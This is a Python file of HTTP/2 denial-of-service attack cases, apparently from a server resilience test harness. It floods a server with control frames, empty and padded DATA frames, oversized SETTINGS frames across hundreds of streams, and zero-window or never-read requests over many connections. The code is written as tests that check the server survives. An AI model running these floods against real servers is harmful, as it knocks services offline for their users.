"""Frames that are cheap to send and ask for an answer or for work."""
import itertools

import fields
import frames
from attack import attack
from attacker import that

POST = fields.post()
ENDLESS = {
    "SETTINGS": frames.settings((frames.INITIAL_WINDOW_SIZE, 65_535)),
    "empty SETTINGS": frames.settings(),
    "SETTINGS ACK": frames.settings(flags=frames.ACK),
    "PING": frames.ping(),
    "PING ACK": frames.ping(flags=frames.ACK),
    "PRIORITY": frames.priority(99_999),
    "WINDOW_UPDATE": frames.window_update(0, 1),
    "unknown frames": frames.frame(0xEE, 0, 0),
    "large unknown frames": frames.frame(0xEE, 0, 0, bytes(16_384)),
}


@attack(each={f"{name}, {how}": (octets, how == "read") for name, octets in ENDLESS.items() for how in ("read", "never read")})
def flood(a, kind):
    """One frame over and over, the answers read or not."""
    octets, reads = kind
    made = a.connect()
    result = a.flood(made, itertools.repeat(octets * 100), reads=reads)
    return str(result)


@attack(each={"empty DATA": frames.data(1), "padded DATA": frames.data(1, frames.padded(b"", 255), flags=frames.PADDED),
              "DATA of a byte": frames.data(1, b"1"), "WINDOW_UPDATE": frames.window_update(1, 1)})
def flood_of_stream(a, octets):
    """Frames on an open stream that bring nothing."""
    made = a.connect()
    pieces = itertools.chain([frames.headers(made.next_stream(), POST, end=False)], itertools.repeat(octets * 50))
    return str(a.flood(made, pieces))


@attack()
def settings_of_many_entries(a):
    """SETTINGS with as many entries as a frame carries, each another window."""
    entries = [(frames.INITIAL_WINDOW_SIZE, size) for size in range(2000)]
    made = a.connect(authenticated=True)
    opened = [frames.headers(made.next_stream(), POST, end=False) for _ in range(900)]
    result = a.flood(made, itertools.chain(opened, itertools.repeat(frames.settings(*entries))))
    return str(result)


@attack(peak=40)
def window_of_zero(a):
    """A client that allows no byte of any answer, and asks on twenty connections."""
    for _ in range(20):
        made = a.connect((frames.INITIAL_WINDOW_SIZE, 0))
        a.flood(made, (frames.headers(made.next_stream(), fields.get()) for _ in range(5000)), seconds=1)
    that(not a.server.has_ended, "a server that runs", "its end")
    return "held"


@attack(peak=40)
def never_read(a):
    """Requests whose answers are never read, on twenty connections."""
    taken = 0
    for _ in range(20):
        made = a.connect()
        asking = (frames.headers(made.next_stream(), fields.get()) for _ in itertools.count())
        taken += a.flood(made, asking, reads=False, seconds=a.seconds / 10).sent
    return f"{taken / 1e6:.1f} MB taken"
